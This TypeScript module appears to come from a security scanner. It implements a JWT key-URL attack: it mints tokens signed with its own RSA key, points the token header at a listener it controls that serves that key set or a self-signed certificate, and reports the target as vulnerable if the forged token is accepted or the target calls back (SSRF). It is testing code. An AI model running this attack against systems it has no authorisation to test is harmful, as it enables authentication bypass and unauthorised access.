/** Carries the attacks that put an address of ours into a token: a listener waits there, and serves a key of ours. */
import { type AnyAttack, type Attack, type AttackContext, defineAttack } from '../attack.ts'
import { inconclusive, vulnerable } from '../judge.ts'
import { attempt, control, openWitness } from './attempt.ts'
import { mint, readToken } from './forge-token.ts'
import { keyUrlScript, type UrlPlace } from './key-url-script.ts'
import { openListener } from './listener.ts'
import { ownRsaPair } from './own-keys.ts'
import { selfSignedCertificate } from './self-signed-certificate.ts'
import { tryVariants } from './token-attack.ts'

type Context = AttackContext<'jwt' | 'callback'>

type KeyUrlAttack = Omit<Attack<'jwt' | 'callback'>, 'kind' | 'run' | 'effect' | 'holds' | 'needs'> & {
  /** What the listener answers: a key set unless said. */
  readonly answer?: 'certificate'
  /** `url` is where the listener is, without a final slash. */
  places(url: string, context: Context): readonly UrlPlace[]
  /** A plainer place, by the attack whose it is: where that is called or let in as well, it is the finding. */
  plainer?(url: string): UrlPlace & { readonly attack: string }
}

/** Vulnerable when the token gets in, and also when it does not but the target called our listener (SSRF). */
export function keyUrlAttack({ answer, places, plainer, ...attack }: KeyUrlAttack): AnyAttack {
  return defineAttack({
    ...attack,
    effect: 'write',
    holds: 'nothing',
    needs: ['jwt', 'callback'],
    async run(context) {
      if (context.rubbishAccepted) return inconclusive('superseded by auth/absent-no-token: any token gets in')
      const own = await context.once('own-key', async () => ownKey())
      const listener = await openListener(context, () => own[answer ?? 'keySet'])
      try {
        const witness = await openWitness(context)
        await control(context, 'the real token', witness)
        const { header, payload } = readToken(context.victim.token)
        const tokenWith = ({ header: more, claims }: UrlPlace) =>
          mint(own.key, { ...header, alg: 'RS256', kid: 'own', ...more }, { ...payload, ...claims })
        const script = keyUrlScript(context, listener.url, answer)
        const tried = places(listener.url, context)
        const variants = tried.map((place) => ({
          name: place.name,
          token: tokenWith(place),
          makes: script.lets(place),
        }))
        const judgement = await tryVariants(context, witness, variants)
        const called = listener.visits.length
        if (called === 0 && judgement.outcome !== 'vulnerable') return judgement
        if (called > 0) context.note('received', `the target fetched ${listener.visits.join(', ')} from our listener`)
        const plain = plainer?.(listener.url)
        if (plain !== undefined) {
          const result = await attempt(context, `plainer: ${plain.name}`, witness, { token: tokenWith(plain) })
          if (result.in || listener.visits.length > called)
            return inconclusive(`superseded by ${plain.attack}: ${plain.name} does as well`, context.evidence)
        }
        if (judgement.outcome !== 'vulnerable') context.recording.written(script.calls(tried))
        return vulnerable(context.evidence)
      } finally {
        await listener.close()
      }
    },
  })
}

function ownKey() {
  const pair = ownRsaPair()
  const jwk = { ...pair.publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'RS256', use: 'sig' }
  const certificate = selfSignedCertificate(pair).toString('base64')
  return {
    key: { algorithm: 'RS256', privateKey: pair.privatePem },
    keySet: JSON.stringify({ keys: [jwk] }),
    certificate: `-----BEGIN CERTIFICATE-----\n${certificate}\n-----END CERTIFICATE-----\n`,
  } as const
}
